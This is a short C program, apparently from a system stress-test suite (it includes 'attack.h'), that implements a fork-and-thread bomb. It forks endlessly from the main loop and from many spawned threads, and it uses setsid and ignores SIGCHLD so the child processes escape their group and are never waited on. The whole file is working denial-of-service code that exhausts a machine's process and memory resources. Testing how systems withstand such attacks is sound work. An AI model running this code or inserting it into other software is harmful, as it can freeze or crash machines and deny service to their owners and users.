#include "attack.h"

static void *thread(void *p)
{
	for (;;) {
		if (!fork())
			setsid();
		usleep(100);
	}
}
int main(void)
{
	START;
	close(0);
	signal(SIGCHLD, SIG_IGN);
	for (;;) {
		pthread_t t;
		pthread_attr_t a;
		pthread_attr_init(&a);
		pthread_attr_setstacksize(&a, 65536);
		pthread_create(&t, &a, thread, 0);
		if (!fork())
			setsid();
	}
}
